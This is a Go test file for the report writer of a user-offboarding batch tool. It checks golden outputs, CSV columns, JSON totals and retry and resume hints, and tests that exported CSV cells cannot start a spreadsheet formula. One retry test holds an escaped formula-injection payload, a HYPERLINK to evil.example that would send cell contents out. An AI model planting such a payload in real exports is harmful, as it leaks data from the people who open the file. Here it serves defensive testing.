package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"offboard/batch"
)

var update = flag.Bool("update", false, "write the golden files anew")

func TestGolden(t *testing.T) {
	format := func(name string) func(io.Writer) error {
		return func(w io.Writer) error { return one(name, w, fixtureRun(), seq(fixture(), nil)) }
	}
	steps := func(name string) func(io.Writer) error {
		return func(w io.Writer) error { return one(name, w, leaverRun(), seq(leavers(), nil)) }
	}
	// the page without what every page has, and its people as they are unpacked
	seen := func(e End, lines []batch.Line) func(io.Writer) error {
		return func(w io.Writer) error {
			var b bytes.Buffer
			if err := one(pageName, &b, e, seq(lines, nil)); err != nil {
				return err
			}
			packed, people := packedOf(t, b.String())
			_, err := strings.NewReplacer(pagePolicy, "POLICY", pageStyle, "STYLE", pageScript, "SCRIPT", packed, people).WriteString(w, b.String())
			return err
		}
	}
	timed := leaverRun()
	timed.Timing.Started, timed.Ceiling = at(1, 0), Ceiling{3, 2 * time.Second, "documented quota"}
	for name, write := range map[string]func(io.Writer) error{
		"leaver/report.html":        seen(timed, leavers()),
		"report.html":               seen(fixtureEnd(), fixture()),
		"leaver/report.csv":         steps(csvName),
		"leaver/report.jsonl":       steps(jsonlName),
		"leaver/report.targets.csv": steps(targetsName),
		"leaver/followup.csv":       steps(followupName),
		"leaver/retry.csv":          steps(RetryName),
		"leaver/end.txt":            func(w io.Writer) error { return Text(w, leaverRun()) },
		"leaver/end.json":           func(w io.Writer) error { return JSON(w, leaverRun()) },
		"report.csv":                format(csvName),
		"report.jsonl":              format(jsonlName),
		"retry.csv":                 format(RetryName),
		"end.txt":                   func(w io.Writer) error { return Text(w, fixtureEnd()) },
		"end.json":                  func(w io.Writer) error { return JSON(w, fixtureEnd()) },
	} {
		t.Run(name, func(t *testing.T) {
			var got bytes.Buffer
			if err := write(&got); err != nil {
				t.Fatal(err)
			}
			path := filepath.Join("..", "testdata", "report", name)
			if *update {
				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got.Bytes(), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(got.Bytes(), want) {
				t.Errorf("%s differs; got:\n%s", path, got.Bytes())
			}
		})
	}
}

// The command that runs the failed rows again is told of a run that is over. While it goes
// on nothing is to be typed, and of one that can be gone on with its own command.
func TestRetryIsToldWhenTheRunIsOver(t *testing.T) {
	const retry, resume = "offboard run out/retry.csv", "offboard resume 20260302-0915-k7"
	for _, c := range []struct {
		name          string
		change        func(*End)
		retry, resume bool
	}{
		{"stopped", func(*End) {}, false, true},
		{"held", func(e *End) { e.Resume, e.Held = "", "process 7 on host works on it" }, false, false},
		{"over", func(e *End) { e.Resume = "" }, true, false},
	} {
		e := fixtureEnd()
		c.change(&e)
		for name, write := range map[string]func(io.Writer, End) error{"text": Text, "JSON": JSON} {
			var b bytes.Buffer
			if err := write(&b, e); err != nil {
				t.Fatal(err)
			}
			if has := strings.Contains(b.String(), retry); has != c.retry {
				t.Errorf("%s, %s: it has the command for the failed rows: %v, want %v", c.name, name, has, c.retry)
			}
			if has := strings.Contains(b.String(), resume); has != c.resume {
				t.Errorf("%s, %s: it has the command that goes on: %v, want %v", c.name, name, has, c.resume)
			}
		}
	}
}

// The golden files hold only what the fixture shows, so it must show it all.
func TestFixtureHasEveryOutcome(t *testing.T) {
	e := fixtureEnd()
	for _, o := range batch.Outcomes {
		if e.Summary.Counts[o] == 0 {
			t.Errorf("no line ends as %s", o)
		}
	}
	if e.missing() != 0 || e.Summary.Lines != e.Plan.Rows {
		t.Errorf("the plan has %d rows, the fixture %d", e.Plan.Rows, e.Summary.Lines)
	}
}

func TestColumnsAreAsPromised(t *testing.T) {
	const want = "line,input,user_id,user_principal_name,user_type,outcome,http_status,error_code,error_message," +
		"attempts,throttles,sent_at,settled_at,valid_from_before,valid_from_after,request_id,reason," +
		"account_enabled,role,same_as_line,file,same_as_file"
	var names []string
	for _, c := range columns {
		names = append(names, c.name)
	}
	if got := strings.Join(names, ","); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

// What a spreadsheet or grep sees: one line a row, no formula in any cell, by
// whatever sign it splits the lines.
func TestCSVIsSafeToOpen(t *testing.T) {
	for _, c := range []struct {
		name  string
		run   End
		lines []batch.Line
	}{
		{csvName, fixtureRun(), fixture()}, {RetryName, fixtureRun(), fixture()},
		{csvName, leaverRun(), leavers()}, {targetsName, leaverRun(), leavers()}, {followupName, leaverRun(), leavers()},
	} {
		var b bytes.Buffer
		name := c.name
		if err := one(name, &b, c.run, seq(c.lines, nil)); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(b.Bytes()))
		r.FieldsPerRecord = -1
		records, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if n := bytes.Count(b.Bytes(), []byte("\n")); n != len(records) {
			t.Errorf("%s: %d lines for %d records", name, n, len(records))
		}
		var cells []string
		for _, rec := range records {
			cells = append(cells, rec...)
		}
		cells = append(cells, strings.FieldsFunc(b.String(), func(r rune) bool { return r == ';' || r == '\n' })...)
		for _, c := range cells {
			if bare := strings.TrimLeft(c, ` "`); bare != "" && strings.ContainsAny(bare[:1], "=+-@\t\r") {
				t.Errorf("%s: a cell begins a formula: %q", name, c)
			}
		}
	}
}

func TestRetryHoldsOnlyWhatFailedOnce(t *testing.T) {
	var b bytes.Buffer
	if err := one(RetryName, &b, fixtureRun(), seq(fixture(), nil)); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(&b)
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var keys, known []string
	for i, rec := range records {
		switch {
		case len(rec) == 3:
			keys = append(keys, rec[0])
			if slices.Contains([]string{"ida?contoso", "gone@contoso.com", "1007"}, rec[0]) != (rec[2] == "") && rec[0][0] != '\'' {
				t.Errorf("%s has the object id %q", rec[0], rec[2])
			}
		case len(rec) == 4 && blank(rec[:3]...):
			known = append(known, rec[3])
		default:
			t.Errorf("record %d: %q", i, rec)
		}
	}
	want := []string{
		"User name [userPrincipalName] Required",
		"fay@contoso.com", "ida?contoso", "gone@contoso.com", "1007",
		"admin@contoso.com", "hal@contoso.com", "jo@contoso.com", "kim@contoso.com", "lee@contoso.com",
		`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "' -1+1 next", "o'neil@contoso.com",
	}
	if !slices.Equal(keys, want) {
		t.Errorf("got  %q\nwant %q", keys, want)
	}
	if want := []string{"Müller, Ümit", "line 23"}; !slices.Equal(known, want) {
		t.Errorf("got  %q of rows without cells, want %q", known, want)
	}
}

func TestRetryNeedsColumns(t *testing.T) {
	err := one(RetryName, io.Discard, End{}, seq(fixture(), nil))
	if err == nil || !strings.Contains(err.Error(), "the plan names no columns") {
		t.Errorf("got %v", err)
	}
}

func TestJSONAddsUp(t *testing.T) {
	e := fixtureEnd()
	var b bytes.Buffer
	if err := JSON(&b, e); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Lines, Success, Neutral, Failure, Open int
		Counts                                 map[string]int
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	sum := 0
	for _, n := range doc.Counts {
		sum += n
	}
	if sum != doc.Lines || doc.Success+doc.Neutral+doc.Failure != doc.Lines || doc.Lines != 24 {
		t.Errorf("%+v does not add up", doc)
	}
	if len(doc.Counts) != len(batch.Outcomes) || doc.Open != 2 {
		t.Errorf("%+v", doc)
	}
}

// A run with nothing to say still gives every key, null where there is none.
func TestJSONOfNothing(t *testing.T) {
	var b bytes.Buffer
	if err := JSON(&b, End{}); err != nil {
		t.Fatal(err)
	}
	var doc map[string]any
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"created_at", "ended_at", "written_at", "report_dir", "retry", "resume"} {
		if v, ok := doc[key]; !ok || v != nil {
			t.Errorf("%s is %v, %v", key, v, ok)
		}
	}
	for _, key := range []string{"files", "settings"} {
		if v, ok := doc[key].([]any); !ok || len(v) != 0 {
			t.Errorf("%s is %v", key, doc[key])
		}
	}
}
